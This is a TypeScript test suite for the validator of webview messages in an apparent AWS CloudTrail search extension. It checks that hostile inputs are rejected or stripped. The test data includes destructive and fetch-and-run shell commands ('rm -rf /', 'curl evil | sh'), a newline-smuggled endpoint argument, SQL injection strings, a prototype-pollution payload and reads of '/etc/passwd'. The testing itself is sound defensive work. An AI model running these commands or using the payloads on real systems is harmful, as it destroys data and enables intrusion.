/**
 * shared/protocol: what the webview sends is untrusted input. Well-formed messages come out
 * normalised (and only with known fields); everything else throws, including hostile shapes.
 */
import { strict as assert } from 'node:assert';
import { MAX_QUERY_LIMIT } from '../../src/core/events/query';
import { parsePanelState, parseSearchRequest, parseWebviewMessage } from '../../src/shared/protocol';

const request = { profiles: ['dev'], regions: ['us-east-1'], query: { time: { preset: '24h' }, attributes: { EventName: ' DeleteTrail ' }, limit: 100 } };

describe('shared/protocol: messages from the webview are validated', () => {
  it('accepts a well-formed search and normalises its query (core/events parseEventQuery)', () => {
    const message = parseWebviewMessage({ type: 'search', request: { ...request, query: { ...request.query, attributes: { EventName: ' DeleteTrail ', EventSource: 'iam' }, errorCodes: ['AccessDenied*'] } } });
    assert.equal(message.type, 'search');
    if (message.type !== 'search') return;
    assert.deepEqual(message.request.query.attributes, { EventName: ['DeleteTrail'], EventSource: ['iam.amazonaws.com'] });
    assert.equal(message.request.query.errorsOnly, true, 'error codes imply errors only');
  });

  it('accepts several profiles and regions, deduplicated', () => {
    const parsed = parseSearchRequest({ profiles: ['dev', 'prod', 'dev'], regions: ['us-east-1', 'eu-west-1', 'us-gov-west-1'], query: {} });
    assert.deepEqual(parsed.profiles, ['dev', 'prod']);
    assert.deepEqual(parsed.regions, ['us-east-1', 'eu-west-1', 'us-gov-west-1']);
  });

  it('accepts every message type, keeping only known fields', () => {
    assert.deepEqual(parseWebviewMessage({ type: 'ready', extra: 1 }), { type: 'ready' });
    assert.deepEqual(parseWebviewMessage({ type: 'cancel' }), { type: 'cancel' });
    assert.deepEqual(parseWebviewMessage({ type: 'loadMore' }), { type: 'loadMore' });
    assert.deepEqual(parseWebviewMessage({ type: 'retry' }), { type: 'retry' });
    assert.deepEqual(parseWebviewMessage({ type: 'keepGoing', upTo: 5000 }), { type: 'keepGoing', upTo: 5000 });
    assert.deepEqual(parseWebviewMessage({ type: 'getRecord', key: 3, json: '{}' }), { type: 'getRecord', key: 3 });
    assert.deepEqual(parseWebviewMessage({ type: 'openRecord', key: 0 }), { type: 'openRecord', key: 0 });
    assert.deepEqual(parseWebviewMessage({ type: 'copyCli', key: 9, command: 'rm -rf /' }), { type: 'copyCli', key: 9 });
    assert.deepEqual(parseWebviewMessage({ type: 'compare', keys: [1, 2] }), { type: 'compare', keys: [1, 2] });
    assert.deepEqual(parseWebviewMessage({ type: 'export', format: 'csv', path: '/etc/passwd' }), { type: 'export', format: 'csv' });
    assert.deepEqual(parseWebviewMessage({ type: 'export', format: 'json', range: { start: 1, end: 2 } }), { type: 'export', format: 'json', range: { start: 1, end: 2 } });
    assert.deepEqual(parseWebviewMessage({ type: 'pivot', key: 4, field: 'user', value: 'x' }), { type: 'pivot', key: 4, field: 'user' });
    assert.deepEqual(parseWebviewMessage({ type: 'pivot', key: 4, field: 'resource', index: 2 }), { type: 'pivot', key: 4, field: 'resource', index: 2 });
    assert.deepEqual(parseWebviewMessage({ type: 'fix', streamId: 1, command: 'curl evil | sh' }), { type: 'fix', streamId: 1 }, 'the command never comes from the webview');
  });

  const long = 'x'.repeat(5000);
  const bad: Array<[string, unknown]> = [
    ['not an object', 'ready'],
    ['null', null],
    ['an array', [{ type: 'ready' }]],
    ['no type', {}],
    ['a non-string type', { type: 7 }],
    ['unknown type', { type: 'runShell', command: 'rm -rf /' }],
    ['a type inherited from the prototype', { type: 'toString' }],
    ['no request', { type: 'search' }],
    ['the old query shape', { type: 'search', query: request.query }],
    ['unknown attribute', { type: 'search', request: { ...request, query: { attributes: { Evil: 'x' } } } }],
    ['attribute not a string', { type: 'search', request: { ...request, query: { attributes: { EventName: { $gt: '' } } } } }],
    ['an attribute value too long', { type: 'search', request: { ...request, query: { attributes: { EventName: long } } } }],
    ['too many attribute values', { type: 'search', request: { ...request, query: { attributes: { EventName: Array.from({ length: 100 }, (_, i) => `E${i}`) } } } }],
    ['__proto__ in the query', { type: 'search', request: { ...request, query: JSON.parse('{"__proto__": {"polluted": true}, "text": "x"}') as unknown } }],
    ['unknown key in the query', { type: 'search', request: { ...request, query: { sql: 'DROP TABLE' } } }],
    ['profiles not a list', { type: 'search', request: { ...request, profiles: 'dev' } }],
    ['no profile', { type: 'search', request: { ...request, profiles: [] } }],
    ['an empty profile name', { type: 'search', request: { ...request, profiles: [''] } }],
    ['a profile with a newline', { type: 'search', request: { ...request, profiles: ['dev\n--endpoint-url http://evil'] } }],
    ['a profile name too long', { type: 'search', request: { ...request, profiles: [long] } }],
    ['too many regions', { type: 'search', request: { ...request, regions: Array.from({ length: 100 }, (_, i) => `us-east-${i}`) } }],
    ['a region that is not one', { type: 'search', request: { ...request, regions: ['../../etc'] } }],
    ['a region URL', { type: 'search', request: { ...request, regions: ['https://evil.example'] } }],
    ['unknown preset', { type: 'search', request: { ...request, query: { time: { preset: '1y' } } } }],
    ['a non-numeric time', { type: 'search', request: { ...request, query: { time: { start: 'yesterday' } } } }],
    ['limit too large', { type: 'search', request: { ...request, query: { limit: 1e9 } } }],
    ['limit not an integer', { type: 'search', request: { ...request, query: { limit: 1.5 } } }],
    ['riskyOnly unknown level', { type: 'search', request: { ...request, query: { riskyOnly: 'critical' } } }],
    ['keepGoing without a number', { type: 'keepGoing', upTo: '5000' }],
    ['keepGoing too far', { type: 'keepGoing', upTo: MAX_QUERY_LIMIT + 1 }],
    ['keepGoing NaN', { type: 'keepGoing', upTo: Number.NaN }],
    ['a negative key', { type: 'getRecord', key: -1 }],
    ['a fractional key', { type: 'openRecord', key: 1.5 }],
    ['a string key', { type: 'copyCli', key: '1' }],
    ['an infinite key', { type: 'getRecord', key: Infinity }],
    ['a huge key', { type: 'getRecord', key: 2 ** 53 }],
    ['compare with one key', { type: 'compare', keys: [1] }],
    ['compare with the same key twice', { type: 'compare', keys: [1, 1] }],
    ['compare with three keys', { type: 'compare', keys: [1, 2, 3] }],
    ['export in another format', { type: 'export', format: 'xlsx' }],
    ['export with an inverted range', { type: 'export', format: 'csv', range: { start: 5, end: 1 } }],
    ['export with a non-finite range', { type: 'export', format: 'csv', range: { start: 0, end: Infinity } }],
    ['pivot on an unknown field', { type: 'pivot', key: 1, field: 'command' }],
    ['pivot with a bad index', { type: 'pivot', key: 1, field: 'resource', index: -2 }],
    ['fix without a stream', { type: 'fix' }],
  ];
  for (const [what, message] of bad) {
    it(`rejects ${what}`, () => {
      assert.throws(() => parseWebviewMessage(message), Error);
    });
  }

  it('does not pollute Object.prototype whatever it is sent', () => {
    for (const [, message] of bad) {
      try {
        parseWebviewMessage(message);
      } catch {
        // expected
      }
    }
    assert.equal(({} as Record<string, unknown>).polluted, undefined);
  });
});

describe('shared/protocol: the saved panel state is validated too', () => {
  it('keeps what validates and drops the rest', () => {
    const state = parsePanelState({ request, columns: ['time', 'evil', 'eventName', 'time'], sort: { column: 'user', descending: false }, extra: 1 });
    assert.ok(state?.request);
    assert.deepEqual(state.columns, ['time', 'eventName']);
    assert.deepEqual(state.sort, { column: 'user', descending: false });
  });

  it('forgets an invalid form but keeps the columns', () => {
    const state = parsePanelState({ request: { profiles: 'x' }, columns: ['risk'] });
    assert.deepEqual(state, { columns: ['risk'] });
  });

  it('returns undefined for junk', () => {
    assert.equal(parsePanelState('state'), undefined);
    assert.equal(parsePanelState(null), undefined);
    assert.equal(parsePanelState({ sort: { column: 'nope', descending: true } }), undefined);
  });
});

describe('shared/protocol: search sources (local logs, Athena) are validated', () => {
  const athena = { kind: 'athena', trail: 'MultiRegion1CloudTrail', database: 'cloudtrail_lens', workgroup: 'primary', outputLocation: 's3://athena-results-111122223333/lens/', organizationId: 'o-abcdefghij', sql: 'SELECT 1' };

  it('accepts each source, Event history as no source, and drops unknown fields', () => {
    assert.equal(parseSearchRequest({ ...request, source: { kind: 'history' } }).source, undefined);
    assert.deepEqual(parseSearchRequest({ ...request, source: { kind: 'archive', folderId: 3, name: 'cloudtrail-logs', path: '/etc', byRegion: true } }).source, { kind: 'archive', folderId: 3, name: 'cloudtrail-logs', byRegion: true });
    assert.deepEqual(parseSearchRequest({ ...request, source: { ...athena, extra: 1 } }).source, athena);
    assert.deepEqual(parseSearchRequest({ ...request, source: { kind: 'athena', trail: 'arn:aws:cloudtrail:us-east-1:111122223333:trail/T', sql: '  ' } }).source, { kind: 'athena', trail: 'arn:aws:cloudtrail:us-east-1:111122223333:trail/T' });
  });

  it('accepts pickFolder, listTrails and createTable', () => {
    assert.deepEqual(parseWebviewMessage({ type: 'pickFolder', path: '/etc/passwd' }), { type: 'pickFolder' });
    assert.deepEqual(parseWebviewMessage({ type: 'listTrails', profile: 'dev', region: 'eu-west-1' }), { type: 'listTrails', profile: 'dev', region: 'eu-west-1' });
    assert.deepEqual(parseWebviewMessage({ type: 'createTable', profile: 'dev', region: 'us-east-1', source: athena }), { type: 'createTable', profile: 'dev', region: 'us-east-1', source: athena });
  });

  const hostile: Array<[string, unknown]> = [
    ['an unknown source kind', { kind: 's3' }],
    ['a source that is a string', 'archive'],
    ['an archive without a folder id', { kind: 'archive', name: 'x' }],
    ['an archive with a path for an id', { kind: 'archive', folderId: '/etc', name: 'x' }],
    ['an archive name with control characters', { kind: 'archive', folderId: 1, name: 'a\u0007b' }],
    ['Athena without a trail', { kind: 'athena' }],
    ['a trail with SQL in it', { kind: 'athena', trail: "x' OR 1=1 --" }],
    ['a database with a quote', { kind: 'athena', trail: 'T', database: 'db"; DROP TABLE x; --' }],
    ['a table with upper case', { kind: 'athena', trail: 'T', table: 'Events' }],
    ['a result location that is not S3', { kind: 'athena', trail: 'T', outputLocation: 'https://evil.example/' }],
    ['a result location with a quote', { kind: 'athena', trail: 'T', outputLocation: "s3://bucket/a'b" }],
    ['a bad organization id', { kind: 'athena', trail: 'T', organizationId: 'org-1' }],
    ['a workgroup with spaces', { kind: 'athena', trail: 'T', workgroup: 'a b' }],
    ['SQL that is not text', { kind: 'athena', trail: 'T', sql: { toString: 1 } }],
    ['SQL too long', { kind: 'athena', trail: 'T', sql: 'x'.repeat(100_001) }],
  ];
  for (const [what, source] of hostile) {
    it(`rejects ${what}`, () => {
      assert.throws(() => parseWebviewMessage({ type: 'search', request: { ...request, source } }), Error);
    });
  }

  it('rejects hostile listTrails and createTable messages', () => {
    for (const message of [
      { type: 'listTrails', profile: 'dev' },
      { type: 'listTrails', profile: 'dev\nx', region: 'us-east-1' },
      { type: 'listTrails', profile: 'dev', region: 'http://evil' },
      { type: 'createTable', profile: 'dev', region: 'us-east-1' },
      { type: 'createTable', profile: 'dev', region: 'us-east-1', source: { kind: 'archive', folderId: 1, name: 'x' } },
      { type: 'createTable', profile: 'dev', region: 'us-east-1', source: { kind: 'athena', trail: 'T', database: 'A-B' } },
    ]) {
      assert.throws(() => parseWebviewMessage(message), Error, JSON.stringify(message));
    }
  });

  it('forgets a saved form whose source does not validate', () => {
    assert.deepEqual(parsePanelState({ request: { ...request, source: { kind: 'athena', trail: "'" } }, columns: ['time'] }), { columns: ['time'] });
  });
});
